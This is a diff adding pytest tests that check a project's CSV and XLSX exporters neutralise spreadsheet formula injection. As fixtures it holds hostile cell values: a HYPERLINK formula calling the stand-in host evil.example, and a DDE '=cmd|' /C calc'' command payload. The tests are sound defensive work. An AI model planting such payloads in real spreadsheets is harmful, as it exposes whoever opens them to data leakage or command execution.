@@ -474,3 +474,40 @@ def test_ordinary_docx_and_pdf_still_read() -> None:
     assert read_bytes(_docx(xml), name="ok.docx").text == "市发改局牵头"
     with pytest.raises(InputError, match="no text"):  # a PDF with no text: read to the end, not refused as a bomb
         read_bytes(_pdf(b"BT ET\n" * 1000), name="ok.pdf")
+
+
+# ---------------------------------------------------------------- 6. formulas
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x","点击")'
+
+
+def test_csv_cells_that_start_a_formula_are_neutralised() -> None:
+    import csv
+    import io
+
+    from kg.views.format import render
+
+    rows = [{"task": HOSTILE, "unit": "+1", "plan": "=2+3.txt", "note": "@SUM(A1)", "n": -3, "ok": "市发改局"}]
+    text = render(rows, ("task", "unit", "plan", "note", "n", "ok"), "csv")
+    cells = list(csv.reader(io.StringIO(text)))[1]
+    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells[:4])
+    assert cells[0] == "'" + HOSTILE and cells[4] == "-3" and cells[5] == "市发改局"
+
+
+def test_xlsx_ledger_never_holds_a_formula(tmp_path: Path) -> None:
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from kg.views.ledger import write_ledger
+
+    duty = {"action": HOSTILE, "task_text": "=1+1", "leads": ["@x"], "supporting": [], "indicators": [],
+            "deadlines": [], "plan": "=2+3.txt", "line": 1, "quote": HOSTILE, "role": "lead"}
+    path = tmp_path / "l.xlsx"
+    write_ledger({"unit": "=cmd|' /C calc'!A0", "duties": [duty], "teams": [{"team": "=A1", "role": "member",
+                  "plan": "p", "line": 2}]}, path)
+    with zipfile.ZipFile(path) as z:
+        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and all(b"<f>" not in s and b"<f " not in s for s in sheets)
+    ws = load_workbook(path).active
+    assert ws.cell(3, 3).value == "=1+1" and ws.cell(3, 3).data_type == "s"
